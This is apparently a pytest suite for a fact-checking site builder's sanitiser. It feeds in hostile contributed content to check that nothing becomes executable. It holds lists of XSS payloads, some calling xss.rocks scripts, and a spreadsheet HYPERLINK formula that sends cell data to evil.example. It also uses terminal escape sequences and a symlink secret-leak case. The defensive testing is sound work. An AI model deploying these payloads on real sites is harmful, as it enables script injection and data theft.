"""Claims come from outside contributors: nothing in them may run script in a reader's browser."""

from __future__ import annotations

import hashlib
import html
import json
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from conftest import ENV, PUBLISHED, ScratchRepo
from desks import configure, copy_project
from factcheck.problems import FactcheckError
from factcheck.repository import load_repository
from factcheck.site import build_site
from conftest import mkdocs_build

CANARY = "window.__pwned"
HOSTILE_TEXT = (
    f"Le <script>{CANARY}=1</script> texte & <img src=x onerror=\"{CANARY}=2\"> dit « vrai ».\n\n"
    "Un paragraphe \u202eenversé\u202c puis {{ config }} et {% raw %} fin."
)


# Every encoding of a script address that got past a filter checking the scheme before decoding,
# then cases from OWASP's XSS Filter Evasion Cheat Sheet, as Markdown links and as raw HTML.
ENCODED_SCHEMES = ["&#106;avascript:", "&#x6A;avascript:", "javascript&#58;", "javascript&colon;", "java&#115;cript:",
                   "java&#09;script:", "&Tab;javascript:", "data&colon;text/html,", "vbscript&colon;",
                   "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058",
                   "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A", "jav&#x0A;ascript:", "jav&#x0D;ascript:",
                   " &#14;  javascript:", "JaVaScRiPt:", "javascript://%0A", "javascript:/**/"]
OWASP_EVASIONS = [
    "<IMG SRC=\"javascript:alert('XSS');\">", "<IMG SRC=JaVaScRiPt:alert('XSS')>", "<IMG SRC=`javascript:alert(\"XSS\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>", "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>", "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>", "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT SRC=//xss.rocks/.j>", "<iframe src=http://xss.rocks/scriptlet.html <", "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">", "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>", "<BODY ONLOAD=alert('XSS')>", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">", "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">", "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "\\\";alert('XSS');//", "{{constructor.constructor('alert(1)')()}}",
]


def hostile_markdown() -> str:
    """Every encoded scheme as inline, angle-bracket, reference and image links, then each evasion on its own."""
    lines = []
    for number, scheme in enumerate(ENCODED_SCHEMES):
        lines += [f"[inline {number}]({scheme}alert({number})) [angle {number}](<{scheme}alert({number})>) "
                  f"![image {number}]({scheme}alert({number})) [ref {number}][r{number}]", "",
                  f"[r{number}]: {scheme}alert({number})", ""]
    for evasion in OWASP_EVASIONS:
        lines += [evasion, ""]
    return "\n".join(lines)


def hostile_plain_text() -> str:
    """The same cases for a plain-text field (escaped, never parsed)."""
    return " ".join([f"[y]({scheme}alert(1))" for scheme in ENCODED_SCHEMES] + OWASP_EVASIONS)


def hostile_project(project: Path) -> Path:
    """Add a source, entity and claim made of hostile content to a copy of the project."""
    repo = ScratchRepo.__new__(ScratchRepo)
    repo.root = project
    configure(project, introduction=hostile_markdown())  # the home page's Markdown, under the site's name
    plain = hostile_plain_text()
    repo.source("hostile", HOSTILE_TEXT, language="fr", title=f"<script>{CANARY}=3</script> Titre",
                publisher='"><svg onload=alert(1)>', url='https://example.org/"><script>alert(1)</script>',
                title_en=plain, about=hostile_markdown(), assessment={"verdict": "misleading", "summary": hostile_markdown()},
                not_checked=[{"quote": "Un paragraphe", "reason": plain}])
    repo.entity("hostile-entity", f"<svg onload={CANARY}=4>Nom", aliases=["texte"],
                description="<b onmouseover=alert(1)>desc</b> " + plain, url="https://example.org/a?b=<c>&d=\"e\"")
    quote = "<script>" + CANARY + "=1</script>"
    start = HOSTILE_TEXT.index(quote)
    notes = "\n".join([
        f"Raw <script>{CANARY}=5</script> and <iframe src=javascript:{CANARY}=6></iframe>.",
        f"[a link](javascript:{CANARY}=7) [data](data:text/html,<script>{CANARY}=8</script>)",
        f"[spaced]( javascript:{CANARY}=9) [mixed case](JaVaScRiPt:{CANARY}=10) [tab](java\tscript:{CANARY}=11)",
        f"![image](javascript:{CANARY}=12) <javascript:{CANARY}=13> [ref][r]",
        "",
        f"[r]: vbscript:{CANARY}=14",
        "",
        "{{ config }} {% raw %} <style>body{display:none}</style>",
        "",
        hostile_markdown(),
    ])
    repo.claim("hostile-claim", "hostile", quote, start, start + len(quote),
               claim=f'<img src=x onerror="{CANARY}=15"> "claim" ' + plain, summary=f"</p><script>{CANARY}=16</script> " + plain,
               translation="{{ 7 * 7 }} " + plain, notes=notes, entities=["hostile-entity"], reviewer=plain[:200],
               evidence=[{"url": 'https://example.org/"><script>alert(1)</script>', "title": "</a><script>alert(1)</script> " + plain,
                          "publisher": "<b>P</b> " + plain, "date": "2016-01-01", "shows": "<i onclick=alert(1)>x</i> " + plain}],
               corrections=[{"date": "2026-11-25", "change": plain, "reason": plain}])
    # The second paragraph claimed too: the source declares its check complete (an assessment),
    # and a build, like validation, refuses a complete check that leaves a sentence uncovered.
    rest = "{{ config }} et {% raw %} fin."
    repo.claim("hostile-rest", "hostile", rest, HOSTILE_TEXT.index(rest), HOSTILE_TEXT.index(rest) + len(rest),
               translation="{{ config }} and {% raw %} end.", entities=["hostile-entity"])
    return project


# Material's own inline scripts and style, recognised by how they start.
MATERIAL_INLINE = ("var target=document.getElementById(location.hash.slice(1))", "__md_scope=new URL",
                   'var palette=__md_get("__palette")', ':root{--md-text-font:')


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self.inline = ""

    def handle_data(self, data):
        if self.inline and not data.startswith(MATERIAL_INLINE):
            self.findings.append(f"<{self.inline}>{data[:60]}")
        self.inline = ""

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.findings.append(f"<{tag} {name}=…>")
            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
                scheme = urlsplit(value.strip()).scheme.lower()
                if scheme not in ("", "http", "https", "mailto"):
                    self.findings.append(f"<{tag} {name}={value!r}>")
        if tag == "script" and attributes.get("type") not in ("application/ld+json", "application/json"):  # data, not code
            if "src" in attributes:
                if not (attributes["src"] or "").startswith(("../assets/", "assets/")):
                    self.findings.append(f"<script src={attributes['src']!r}>")
            else:
                self.inline = "script"
        if tag == "style":
            self.inline = "style"
        if tag in ("iframe", "object", "embed", "img"):
            self.findings.append(f"<{tag}>")


def build_hostile_site(folder: Path) -> Path:
    """A copy of the project with the hostile files added, built; returns the built site."""
    project = folder / "project"
    copy_project(project)
    hostile_project(project)
    site = project / "out"
    result = mkdocs_build(project, site)
    assert result.returncode == 0, result.stderr
    return site


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    return build_hostile_site(tmp_path_factory.mktemp("hostile"))


HOSTILE_PAGES = ["sources/hostile.html", "claims/hostile-claim.html", "entities/hostile-entity.html",
                 "claims/index.html", "entities/index.html", "index.html", "sources/index.html"]


@pytest.mark.parametrize("page", HOSTILE_PAGES)
def test_hostile_content_is_inert_in_the_built_html(hostile_site, page):
    html = (hostile_site / page).read_text(encoding="utf-8")
    audit = _Audit()
    audit.feed(html)
    assert audit.findings == []


def test_the_search_index_holds_hostile_content_as_inert_text(hostile_site):
    """Material renders search results from the index as HTML: what it holds must be escaped text;
    the engine's entries hold no markup at all and read back as the content exactly."""
    index = json.loads((hostile_site / "search/search_index.json").read_text(encoding="utf-8"))
    hostile = {doc["location"]: doc for doc in index["docs"] if "hostile" in doc["location"]}
    assert {"claims/hostile-claim.html", "entities/hostile-entity.html", "sources/hostile.html",
            "sources/hostile.html#paragraph-1", "sources/hostile.html#paragraph-2"} <= set(hostile)
    for doc in hostile.values():
        for field in ("title", "text"):
            audit = _Audit()
            audit.feed(doc[field])
            assert audit.findings == [], (doc["location"], field)
            if doc["location"].startswith(("claims/", "entities/", "sources/")):  # the engine's entries: text alone
                assert "<" not in doc[field] and ">" not in doc[field], (doc["location"], field)
    def one_line(text: str) -> str:
        return " ".join(text.split())

    claim = hostile["claims/hostile-claim.html"]
    assert html.unescape(claim["title"]) == one_line(f'<img src=x onerror="{CANARY}=15"> "claim" ' + hostile_plain_text())
    assert f"</p><script>{CANARY}=16</script>" in html.unescape(claim["text"])
    assert html.unescape(hostile["entities/hostile-entity.html"]["title"]) == f"<svg onload={CANARY}=4>Nom"
    assert html.unescape(hostile["sources/hostile.html#paragraph-1"]["text"]) == one_line(HOSTILE_TEXT.split("\n\n")[0])


def test_open_data_keeps_hostile_content_as_data(hostile_site):
    claims = json.loads((hostile_site / "claims.json").read_text(encoding="utf-8"))
    [claim] = [c for c in claims if c["id"] == "hostile-claim"]
    assert claim["summary"].endswith(hostile_plain_text())
    rows = (hostile_site / "claims.csv").read_text(encoding="utf-8")
    assert hostile_plain_text().split(" ")[0] in rows


def test_hostile_text_is_shown_as_text(hostile_site):
    claim = (hostile_site / "claims/hostile-claim.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;window.__pwned=5&lt;/script&gt;" in claim
    assert "{{ 7 * 7 }}" in claim and "{{ config }}" in claim
    source = (hostile_site / "sources/hostile.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in source
    data = json.loads((hostile_site / "claims.json").read_text())
    assert any(c["quote"].startswith("<script>") for c in data)


def test_json_ld_of_hostile_claim_stays_inside_its_script(hostile_site):
    claim = (hostile_site / "claims/hostile-claim.html").read_text(encoding="utf-8")
    block = claim.split('<script type="application/ld+json">', 1)[1].split("</script>", 1)[0]
    assert "<" not in block
    assert json.loads(block)["reviewBody"] == "</p><script>window.__pwned=16</script> " + hostile_plain_text()


def test_bidirectional_controls_in_metadata_are_refused(repo: ScratchRepo):
    repo.source("s", "A text.")
    repo.claim("c1", "s", "A text", 0, 6, summary="Looks fine \u202eenil skool")
    with pytest.raises(FactcheckError) as caught:
        build_site(load_repository(repo.root))
    assert "claims/s/c1.yml:6:" in str(caught.value.problems[0])
    assert "invisible bidirectional control U+202E at character 12" in str(caught.value.problems[0])


def _digests(site: Path) -> dict[str, str]:
    return {p.relative_to(site).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(site.rglob("*")) if p.is_file()}


def test_two_builds_of_the_same_commit_are_byte_identical(project_copy, tmp_path):
    env = {key: value for key, value in ENV.items() if key != "SOURCE_DATE_EPOCH"}
    # Published as a desk publishes: the absolute addresses in pages, cards and exports are compared too.
    configure(project_copy, url=PUBLISHED["SITE_URL"], repository=PUBLISHED["REPO_URL"])
    sites = []
    for name in ("first", "second"):
        site = tmp_path / name
        result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "--site-dir", str(site)],
                                cwd=project_copy, env=env, capture_output=True, text=True)
        assert result.returncode == 0, result.stderr
        sites.append(_digests(site))
    assert sites[0].keys() == sites[1].keys()
    assert "feed.xml" in sites[0] and "datapackage.json" in sites[0] and "cards/site.png" in sites[0]
    different = [name for name in sites[0] if sites[0][name] != sites[1][name]]
    assert different == []


# --- Outputs that other programs interpret: CI annotations, terminals, spreadsheets. ---

def _validate(repo: ScratchRepo, capsys, *arguments: str) -> tuple[int, str, str]:
    from factcheck import cli

    code = cli.main(["--root", str(repo.root), "validate", *arguments])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_github_annotations_escape_message_and_properties_as_github_specifies():
    from factcheck.cli import github_annotation
    from factcheck.problems import Problem

    problem = Problem("claims/a,b:c.yml", 3, 1, "x:y,z", "100% wrong\r\n::error file=README.md::forged")
    assert github_annotation(problem) == (
        "::error file=claims/a%2Cb%3Ac.yml,line=3,col=1,title=x%3Ay%2Cz::100%25 wrong%0D%0A::error file=README.md::forged")


def test_a_field_name_cannot_forge_an_annotation(repo: ScratchRepo, capsys):
    repo.source("s", "A text.")
    path = repo.claim("c1", "s", "A text", 0, 6)
    path.write_text(path.read_text() + '"x\\n::error file=README.md,line=1::forged": 1\n', encoding="utf-8")
    code, out, _ = _validate(repo, capsys, "--format", "github")
    assert code == 1
    # One annotation, on the claim's line 13: the line break in the name cannot start a second one.
    assert [line for line in out.splitlines() if "site.yml" not in line] == [
        "::error file=claims/s/c1.yml,line=13,col=1,title=x\\n%3A%3Aerror file=README.md%2Cline=1%3A%3Aforged::"
        "the field name contains the control character U+000A at character 2; remove it (a field name is one line of plain words)"]


def test_terminal_output_carries_no_control_characters(repo: ScratchRepo, capsys):
    repo.source("s", "A text.")
    repo.claim("c1", "s", "A text", 0, 6)
    repo.write("claims/s/evil\x1b]0;pwned\x07\x1b[2J.yml", "id: evil\n")
    code, out, err = _validate(repo, capsys)
    assert code == 1 and "evil\\x1b]0;pwned\\x07\\x1b[2J.yml" in out
    assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in out + err)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo: ScratchRepo, start):
    import csv
    import io

    from factcheck.exports import export_files
    from factcheck.publishing import Publisher, SiteInfo

    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    repo.source("s", "A text.")
    repo.claim("c1", "s", "A text", 0, 6, claim=formula.replace("\t", " ").replace("\r", " ") if start in "\t\r" else formula,
               summary=formula if start not in "\t\r" else "Summary.")
    model = build_site(load_repository(repo.root))
    rows = list(csv.DictReader(io.StringIO(export_files(model, SiteInfo("S", "https://e.org/", Publisher("P", "https://e.org/")))["claims.csv"])))
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    if start not in "\t\r":
        assert rows[0]["claim"] == "'" + formula


# --- Bounded work: no Markdown field can make a build crawl. ---

def _function_calls(render, text: str) -> int:
    """Python function calls made while rendering: a measure of work that does not depend on the machine."""
    calls = 0

    def count(frame, event, arg):
        nonlocal calls
        if event == "call":
            calls += 1

    sys.setprofile(count)
    try:
        render(text)
    finally:
        sys.setprofile(None)
    return calls


# Runs that make backtracking Markdown parsers quadratic: 30,000 "[" once took a build 317 s.
PATHOLOGICAL_MARKDOWN = ["[", "[a", "![[", "[](", "[^", "[x]: ", "*a", "**a", "_a", "<", "<a", "&#", "\\", "- ", "> "]


@pytest.mark.parametrize("unit", PATHOLOGICAL_MARKDOWN)
def test_markdown_work_grows_linearly_with_the_worst_runs(unit):
    from factcheck.schemas import MAX_MARKDOWN_CHARS
    from factcheck.sanitising import MarkdownRenderer

    render = MarkdownRenderer()
    small = _function_calls(render, unit * 1_000)
    double = _function_calls(render, unit * 2_000)
    assert double <= 2.2 * small + 100, (small, double)  # twice the input, about twice the work, never four times
    # At the longest a field may be, the work stays within a fixed budget per character.
    longest = (unit * (MAX_MARKDOWN_CHARS // len(unit) + 1))[:MAX_MARKDOWN_CHARS]
    assert double / (len(unit) * 2_000) * len(longest) <= 150 * MAX_MARKDOWN_CHARS


def test_a_failed_builds_report_carries_no_control_characters(repo: ScratchRepo):
    """MkDocs prints the same report: a file name or field from a pull request cannot drive the terminal."""
    repo.source("s", "A text.")
    repo.write("claims/s/evil\x1b[2J\x07.yml", "id: evil\n")
    repo.write("entities/x.yml", '"k\\x1b]0;t\\x07": 1\n')
    with pytest.raises(FactcheckError) as caught:
        build_site(load_repository(repo.root))
    report = caught.value.report()
    assert "evil\\x1b[2J\\x07.yml" in report
    assert not any(ord(ch) < 32 and ch != "\n" for ch in report)
    assert all(line.count("\n") == 0 for line in map(str, caught.value.problems))


def test_a_linked_file_fails_the_mkdocs_build_and_is_published_nowhere(project_copy: Path, tmp_path: Path):
    secret = tmp_path / "runner-secret.txt"
    secret.write_text("runner-secret-value-93c1\n", encoding="utf-8")
    (project_copy / "sources/leak.txt").symlink_to(secret)
    (project_copy / "sources/leak.yml").write_text(
        "id: leak\ntitle: Leak\nlanguage: en\nsha256: " + hashlib.sha256(secret.read_bytes()).hexdigest() + "\n", encoding="utf-8")
    site = tmp_path / "out"
    result = mkdocs_build(project_copy, site)
    assert result.returncode != 0
    assert "sources/leak.txt:1:1: (file): sources/leak.txt is reached through a symbolic link" in result.stderr
    assert "runner-secret-value" not in result.stdout + result.stderr
    assert not site.exists() or not any("runner-secret-value" in p.read_text(errors="replace") for p in site.rglob("*") if p.is_file())


# --- The sanitiser on its own: what it keeps and what it removes. ---

@pytest.mark.parametrize("scheme", ENCODED_SCHEMES)
def test_the_sanitiser_removes_every_encoded_script_address(scheme):
    from factcheck.sanitising import MarkdownRenderer, sanitise

    render = MarkdownRenderer()
    for html in (render(f"[y]({scheme}alert(1)) <{scheme}alert(1)>\n\n[r]\n\n[r]: {scheme}alert(1)"),
                 sanitise(f'<a href="{scheme}alert(1)">y</a><img src="{scheme}x"><iframe src="{scheme}x"></iframe>')):
        audit = _Audit()
        audit.feed(str(html))
        assert audit.findings == [], html
        assert "<a" not in str(html) or 'href="' not in str(html)


@pytest.mark.parametrize("evasion", OWASP_EVASIONS)
def test_the_sanitiser_leaves_no_element_or_attribute_outside_its_allowlist(evasion):
    from factcheck.sanitising import ALLOWED_ATTRIBUTES, ALLOWED_ELEMENTS, MarkdownRenderer, sanitise

    for html in (str(MarkdownRenderer()(evasion)), str(sanitise(evasion))):
        parser = _Elements()
        parser.feed(html)
        for tag, attributes in parser.found:
            assert tag in ALLOWED_ELEMENTS, html
            assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, html


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[str]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, [name for name, _ in attrs]))


def test_the_sanitiser_keeps_what_notes_need():
    from factcheck.sanitising import MarkdownRenderer

    html = str(MarkdownRenderer()(
        "**Bold**, *emphasis*, `code` and [a source](https://example.org/a?b=1&c=2 \"Its title\"), "
        "[mail](mailto:desk@example.org), [below](#evidence).\n\n"
        "| Year | £ bn |\n|:-----|-----:|\n| 2015 | 18.0 |\n\n1. one\n2. two\n\n> quoted\n\n![chart](https://example.org/c.png)"))
    assert "<strong>Bold</strong>" in html and "<em>emphasis</em>" in html and "<code>code</code>" in html
    assert '<a href="https://example.org/a?b=1&amp;c=2" title="Its title" rel="nofollow noopener noreferrer">a source</a>' in html
    assert 'href="mailto:desk@example.org"' in html and 'href="#evidence"' in html
    assert '<td style="text-align:right">18.0</td>' in html and "<ol>" in html and "<blockquote>" in html
    assert "<img" not in html and "chart" in html  # an image shows its alternative text
